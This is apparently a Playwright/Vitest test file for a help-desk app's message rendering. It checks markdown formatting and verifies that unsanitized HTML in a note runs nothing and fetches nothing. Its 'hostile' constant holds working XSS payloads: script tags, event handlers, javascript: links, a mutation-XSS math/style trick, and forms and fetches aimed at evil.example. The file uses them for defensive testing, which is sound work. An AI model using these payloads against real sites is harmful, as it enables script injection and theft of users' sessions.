// What agents write is shown as they meant it, and only that: whatever its HTML holds, the desk makes known elements of it.
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { createAdministrator } from "../../server/core/people/index.ts";
import { type Api, startDesk, type TestDesk, until } from "../support/desk.ts";
import { axeFindings } from "./axe.ts";
import { openBrowser, openContext } from "./browser.ts";

const password = "correct horse battery";
let desk: TestDesk;
let browser: Browser;
let page: Page;
let api: Api;
let ticket: string;
const asked: string[] = [];

beforeAll(async () => {
  [desk, browser] = await Promise.all([startDesk({ only: "web,worker,smtp" }), openBrowser()]);
  api = await desk.api();
  await desk.running.desk.database.transact((trx) =>
    createAdministrator(trx, { email: "radek@desk.example", password }),
  );
  await desk.send({
    from: "Jana <jana@acme.example>",
    subject: "Printer",
    text: "It prints **blank** pages.",
    html: "<p>It prints <b>blank</b> pages.</p>",
  });
  ticket = await until("the ticket", async () => (await api("GET", "/tickets?q=Printer")).body.items?.[0]?.number);
  page = await (await openContext(browser)).newPage();
  page.setDefaultTimeout(10_000);
  page.on("request", (request) => asked.push(request.url()));
  await page.goto(`${desk.url}/desk/sign-in`);
  await page.fill("[name=email]", "radek@desk.example");
  await page.fill("[name=password]", password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL("**/tickets**");
}, 60_000);
afterAll(async () => {
  await browser?.close();
  await desk?.stop();
});

const open = () => page.goto(`${desk.url}/desk/tickets/${ticket}`);
const write = async (kind: "reply" | "note", body: string, format: "markdown" | "html") => {
  const { status } = await api("POST", `/tickets/${ticket}/messages`, { kind, body, format });
  expect(status).toBe(201);
};
const item = (kind: string) => page.locator(`article[data-kind="${kind}"]:not([data-automatic])`);

test("a reply and a note are shown with their lists, links, code and tables; a mail from outside stays text", async () => {
  await write(
    "reply",
    "# Steps\n\n1. **Restart** it\n2. Read [the manual](https://acme.example/manual)\n\n`E-042`",
    "markdown",
  );
  await write("note", "| Model | Pages |\n|---|--:|\n| M402 | 48112 |\n\nSee https://acme.example/wiki.", "markdown");
  await open();
  const reply = item("outbound");
  await reply.locator("h2", { hasText: "Steps" }).waitFor();
  expect(await reply.locator("ol > li").allTextContents()).toEqual(["Restart it", "Read the manual"]);
  expect(await reply.locator("strong").textContent()).toBe("Restart");
  expect(await reply.locator("code").textContent()).toBe("E-042");
  const link = reply.getByRole("link", { name: "the manual" });
  expect(await link.getAttribute("href")).toBe("https://acme.example/manual");
  expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(await reply.locator("iframe").count()).toBe(0);
  expect(await reply.getByText("Show original formatting").count()).toBe(0);
  const note = item("note");
  expect(await note.locator("td").allTextContents()).toEqual(["M402", "48112"]);
  expect(
    await note
      .locator("td")
      .last()
      .evaluate((cell) => getComputedStyle(cell).textAlign),
  ).toBe("right");
  expect(await note.getByRole("link", { name: "https://acme.example/wiki" }).count()).toBe(1);
  const mail = item("inbound");
  expect(await mail.getByText("It prints **blank** pages.").count()).toBe(1);
  expect(await mail.locator("b", { hasText: "blank" }).count()).toBe(0);
  expect(await mail.getByText("Show original formatting").count()).toBe(1);
  expect(await axeFindings(page)).toEqual([]);
});

// As if the server's sanitizer had let all of it through.
const hostile = `<p>before</p>
  <script>document.title = "owned"</script><img src=x onerror="document.title='owned'">
  <img src="https://evil.example/a.png" alt="a picture"><svg onload="document.title='owned'"><a href="javascript:alert(1)">svg</a></svg>
  <a href="javascript:document.title='owned'">bad link</a> <a href="data:text/html,x">data link</a> <a href="/api/v1/session">near link</a>
  <a href="https://ok.example" onclick="document.title='owned'" target="_self" style="position:fixed;inset:0">good link</a>
  <iframe src="https://evil.example/f"></iframe><iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
  <form action="https://evil.example/s"><input name="password"><button formaction="https://evil.example/b">press</button></form>
  <style>body{background:url(https://evil.example/s.css)}</style><link rel="stylesheet" href="https://evil.example/l.css">
  <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/m">
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='owned'&gt;">
  <div id="root" class="x" style="background:url(https://evil.example/d.png)">div</div><object data="https://evil.example/o"></object>
  </mglyph></table></mtext></math><p>after</p>`;

test("HTML that no sanitizer has seen runs nothing, fetches nothing and keeps no attribute of its own", async () => {
  await page.route("**/api/v1/tickets/*/messages*", async (route) => {
    const response = await route.fetch();
    const body = await response.json();
    for (const message of body.items) if (message.kind === "note") message.html = hostile;
    await route.fulfill({ response, json: body });
  });
  asked.length = 0;
  await open();
  const note = item("note");
  await note.getByText("before").waitFor();
  await page.waitForTimeout(500);
  expect(await page.title()).not.toBe("owned");
  expect(asked.filter((url) => !url.startsWith(desk.url))).toEqual([]);
  const made = await note.locator("p", { hasText: "before" }).evaluate((before) =>
    [...(before.parentElement?.querySelectorAll("*") ?? [])].map((element) => ({
      tag: element.localName,
      attributes: [...element.attributes].map(({ name, value }) => `${name}=${value}`),
    })),
  );
  expect(
    new Set(made.map(({ tag }) => tag)).difference(new Set(["p", "a", "div", "table", "tbody", "tr", "td"])),
  ).toEqual(new Set());
  expect(made.filter(({ tag }) => tag === "a").map(({ attributes }) => attributes)).toEqual([
    ["href=https://ok.example", "title=https://ok.example", "target=_blank", "rel=noopener noreferrer nofollow"],
  ]);
  expect(made.filter(({ tag }) => tag !== "a").flatMap(({ attributes }) => attributes)).toEqual([]);
  expect(await note.getByText("bad link").count()).toBe(1);
  expect(await note.getByText("a picture").count()).toBe(1);
});
